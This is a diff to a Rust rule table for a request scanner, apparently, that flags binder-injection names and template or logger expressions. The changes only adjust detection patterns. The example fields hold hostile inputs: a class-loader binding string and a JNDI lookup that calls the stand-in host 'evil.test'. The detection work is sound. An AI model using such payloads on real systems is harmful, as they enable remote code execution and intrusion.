@@ -309,7 +309,7 @@ pub(super) const MORE: [Row; 51] = [
         message: "a name that binders follow into objects of the program or its global variables",
         example: (Form, b"class.module.classLoader.x=1"), counterexample: b"class.id=1",
         advice: "Bind the names that you expect, and no others.",
-        needs: &pairs(&[ASCII_TRIPLET, &[b"GLOB", b"_[SEGPCFR][ENOI][RSVTOLQ]", b"~[so][ln][od][ao]", b"~[._][gm]e[tm]", b"~['\"s][]s][.[(]", b":[$#h]", b"[=&\0][~$@.]", b"__[pdlcmsgbi]"]]),
+        needs: &pairs(&[ASCII_TRIPLET, &[b"GLOB", b"_[SEGPCFR][ENOI][RSVTOLQ]", b"~[so][ln][od][ao]", b"~[._][gm]e[tm]", b"~['\"s][]s][.[(]", b"[[(][#%]", b":[$#h]", b"[=&\0][~$@.]", b"__[pdlcmsgbi]"]]),
     },
     Row {
         rule: Rule::QueryOperator, name: "query-operator", severity: Info, reference: "CWE-943",
@@ -323,7 +323,7 @@ pub(super) const MORE: [Row; 51] = [
         message: "an expression of a template or of a logger",
         example: (Query, b"x=${jndi:ldap://evil.test/a}"), counterexample: b"x=$jndi",
         advice: "Never expand text that comes from outside.",
-        needs: &text(&[&[b"{", b"[$T](", b"([#%]", b"<", b"%[237][8BCbc]"]]),
+        needs: &text(&[&[b"{", b"[$T](", b"[[(][#%]", b"<", b"%[237][8BCbc]"]]),
     },
     Row {
         rule: Rule::HtmlAmpersand, name: "html-ampersand", severity: Warn, reference: "HTML 13.1.4",
